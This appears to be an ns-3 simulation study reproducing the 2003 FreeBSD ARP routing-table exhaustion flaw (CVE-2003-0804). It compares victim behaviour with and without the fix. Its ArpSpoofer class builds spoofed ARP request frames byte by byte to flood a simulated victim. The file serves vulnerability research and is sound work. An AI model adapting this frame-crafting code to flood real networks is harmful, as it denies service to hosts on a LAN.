/*
 * SPDX-License-Identifier: GPL-2.0-only
 *
 * bsdnet-arp-flood: FreeBSD-SA-03:14.arp (CVE-2003-0804).  An attacker
 * on the LAN broadcasts ARP requests for the victim's address, each from
 * a new spoofed sender.  RFC 826 has the target learn the sender, so
 * in_arpinput() calls arplookup(sender, create).
 *
 * --senders=offlink: senders off the subnet (100.64.0.0/10), reached only
 * through V's default route.  On FreeBSD that route carries RTF_PRCLONING,
 * so rtalloc1() clones a host route for each sender; arplookup() finds it
 * is a gateway route and, before the fix (if_ether.c RELENG_4 1.64.2.23),
 * returns leaving it in the table: unreferenced, on no timer, never freed.
 * The table and memory grow until ENOBUFS, and V's legitimate flow to its
 * neighbour L, which needs an ARP entry, is lost.  With the fix
 * (--sa0314-fix=1, the FreeBSD patch of 2003-09-24 and NetBSD's arplookup)
 * the clone is deleted at once.  NetBSD and BSD/OS clone only from
 * RTF_CLONING routes, so their tables do not grow, fix or no fix.
 *
 * --senders=onlink: senders on the subnet (10.1.128.0/17).  Every BSD
 * makes a resolved ARP entry for each (RFC 826), which lives arpt_keep
 * (20 min); the fix does not apply.  --senders=mixed alternates.
 *
 *      R 10.1.0.1   V 10.1.0.2 (studied)   L 10.1.0.3   X (attacker, no IP)
 *        |              |                     |              |
 *      ==================== LAN 10.1.0.0/16, Ethernet ====================
 *
 * V's default route is R.  The legitimate flow goes from V to L.
 */
#include "ns3/bsd-kernel.h"
#include "ns3/bsd-stack-helper.h"
#include "ns3/bsd-study.h"
#include "ns3/core-module.h"
#include "ns3/csma-helper.h"
#include "ns3/network-module.h"

#include <cmath>
#include <cstring>

using namespace ns3;

namespace
{

/**
 * Broadcasts ARP requests for one target, each from a spoofed sender:
 * a new protocol address and a new locally administered link address.
 * The frames go straight onto the device: the attacker needs no stack.
 */
class ArpSpoofer : public Application
{
  public:
    ArpSpoofer()
        : m_target(0),
          m_off(0),
          m_on(0),
          m_mode(0),
          m_max(0),
          m_sent(0)
    {
    }

    /**
     * \param dev the attacker's device
     * \param target the address asked for (host order)
     * \param mode 0 offlink, 1 onlink, 2 mixed
     * \param interval between requests
     * \param max requests in all
     */
    void Setup(Ptr<NetDevice> dev, uint32_t target, int mode, Time interval, uint64_t max)
    {
        m_dev = dev;
        m_target = target;
        m_mode = mode;
        m_interval = interval;
        m_max = max;
    }

    uint64_t GetSent() const
    {
        return m_sent;
    }

  private:
    void StartApplication() override
    {
        SendNext();
    }

    void StopApplication() override
    {
        Simulator::Cancel(m_event);
    }

    /// The next spoofed sender, host order.
    uint32_t NextSender()
    {
        bool onlink = m_mode == 1 || (m_mode == 2 && (m_sent & 1) != 0);
        if (onlink)
        {
            // 10.1.128.1 .. 10.1.255.254
            return 0x0a018001u + (m_on++ % 32766u);
        }
        // 100.64.0.1 .. 100.127.255.254
        return 0x64400001u + (m_off++ % 4194302u);
    }

    void SendNext()
    {
        uint8_t ar[28];
        uint32_t spa = NextSender();
        uint64_t n = m_sent + 1;

        // hrd 1, pro 0x0800, hln 6, pln 4, op 1 (request)
        const uint8_t head[8] = {0, 1, 8, 0, 6, 4, 0, 1};
        std::memcpy(ar, head, 8);
        const uint8_t sha[6] = {0x02,
                                0x5e,
                                static_cast<uint8_t>(n >> 24),
                                static_cast<uint8_t>(n >> 16),
                                static_cast<uint8_t>(n >> 8),
                                static_cast<uint8_t>(n)};
        std::memcpy(ar + 8, sha, 6);
        ar[14] = static_cast<uint8_t>(spa >> 24);
        ar[15] = static_cast<uint8_t>(spa >> 16);
        ar[16] = static_cast<uint8_t>(spa >> 8);
        ar[17] = static_cast<uint8_t>(spa);
        std::memset(ar + 18, 0, 6);
        ar[24] = static_cast<uint8_t>(m_target >> 24);
        ar[25] = static_cast<uint8_t>(m_target >> 16);
        ar[26] = static_cast<uint8_t>(m_target >> 8);
        ar[27] = static_cast<uint8_t>(m_target);
        m_dev->Send(Create<Packet>(ar, sizeof(ar)), m_dev->GetBroadcast(), 0x0806);
        m_sent++;
        if (m_sent < m_max)
        {
            m_event = Simulator::Schedule(m_interval, &ArpSpoofer::SendNext, this);
        }
    }

    Ptr<NetDevice> m_dev; //!< the attacker's device
    uint32_t m_target;    //!< asked for, host order
    uint32_t m_off;       //!< off-link senders used
    uint32_t m_on;        //!< on-link senders used
    int m_mode;           //!< 0 offlink, 1 onlink, 2 mixed
    Time m_interval;      //!< between requests
    uint64_t m_max;       //!< requests in all
    uint64_t m_sent;      //!< requests sent
    EventId m_event;      //!< the next one
};

} // namespace

int
main(int argc, char* argv[])
{
    std::string personality = "freebsd-4";
    std::string senders = "offlink";
    int64_t rate = 100;
    double duration = 300;
    int64_t budget = 262144;
    int64_t fix = -1;
    double legitStart = -1;

    BsdStudy study("bsdnet-arp-flood",
                   "FreeBSD-SA-03:14.arp: spoofed ARP requests fill the routing table, with "
                   "and without the fix.");
    study.AddPersonalityFlag("kernel of the victim V", &personality);
    study.AddFlag("senders",
                  "spoofed senders: offlink (via the default route, the advisory's case), "
                  "onlink (on V's subnet), mixed (alternately)",
                  &senders,
                  {"offlink", "onlink", "mixed"});
    study.AddFlag("rate", "spoofed requests per second", &rate, 1, 100000);
    study.AddFlag("duration", "simulated seconds", &duration, 10, 86400);
    study.AddBudgetFlag(&budget);
    study.AddFlag("sa0314-fix",
                  "arplookup deletes the clone it cannot use (the SA-03:14 fix): -1 the "
                  "personality's, 0 no, 1 yes",
                  &fix,
                  -1,
                  1);
    study.AddLegitStartFlag(&legitStart, &duration);
    study.Parse(argc, argv);

    // R, V, L with a BSD stack; X, the attacker, with a device only.
    NodeContainer hosts;
    hosts.Create(3);
    Ptr<Node> router = hosts.Get(0);
    Ptr<Node> victim = hosts.Get(1);
    Ptr<Node> neighbour = hosts.Get(2);
    Ptr<Node> attacker = CreateObject<Node>();
    NodeContainer all(hosts, attacker);
    CsmaHelper csma;
    csma.SetChannelAttribute("DataRate", StringValue("100Mbps"));
    csma.SetChannelAttribute("Delay", TimeValue(MicroSeconds(5)));
    NetDeviceContainer devs = csma.Install(all);

    study.InstallStacks(hosts, victim, nullptr);
    study.ApplyKnob(victim, "sa0314-fix", "arp_sa0314_fix", fix);
    NetDeviceContainer bsdDevs(devs.Get(0), devs.Get(1));
    bsdDevs.Add(devs.Get(2));
    BsdStackHelper::Assign(bsdDevs, "10.1.0.0/16", 1); // R .1, V .2, L .3
    BsdStackHelper::SetDefaultRoute(victim, Ipv4Address("10.1.0.1"));
    BsdStackHelper::SetDefaultRoute(neighbour, Ipv4Address("10.1.0.1"));
    // The budget is for what happens next: the set-up above always fits.
    study.ApplyKnob(victim, "budget", "mem_limit", budget);
    if (study.GetPcap())
    {
        csma.EnablePcap(study.GetPcapPrefix(), devs, false);
    }

    // The flood: rate requests a second for V's address, from 1 s on.
    Ptr<UniformRandomVariable> jitter = CreateObject<UniformRandomVariable>();
    jitter->SetStream(2);
    int mode = senders == "offlink" ? 0 : senders == "onlink" ? 1 : 2;
    auto total = static_cast<uint64_t>(std::ceil(static_cast<double>(rate) * (duration - 1)));
    Ptr<ArpSpoofer> spoofer = CreateObject<ArpSpoofer>();
    spoofer->Setup(devs.Get(3),
                   Ipv4Address("10.1.0.2").Get(),
                   mode,
                   Seconds(1.0 / static_cast<double>(rate)),
                   total);
    attacker->AddApplication(spoofer);
    spoofer->SetStartTime(Seconds(1 + jitter->GetValue(0, 1)));
    spoofer->SetStopTime(Seconds(duration));

    // V talks to its neighbour L: a datagram socket per datagram, each
    // needing the ARP entry for L, which a full budget refuses.
    study.AddLegitimateFlow(victim,
                            neighbour,
                            Ipv4Address("10.1.0.3"),
                            Seconds(legitStart + jitter->GetValue(0, 0.1)),
                            Seconds(duration - 1));

    study.Watch(victim, Seconds(duration));
    study.EnableOutputs(NodeContainer(victim), Seconds(duration));
    study.NetstatAt(Seconds(legitStart), victim, "legitimate flow starts");
    study.NetstatAt(Seconds(duration), victim, "end");

    Simulator::Stop(Seconds(duration) + MilliSeconds(1));
    Simulator::Run();
    study.AddResult("attack_sent", static_cast<double>(spoofer->GetSent()));
    study.AddResult("untimed_cloned", static_cast<double>(study.CountUntimed(BSD_RTK_CLONED)));
    study.Finish();
    Simulator::Destroy();
    return 0;
}
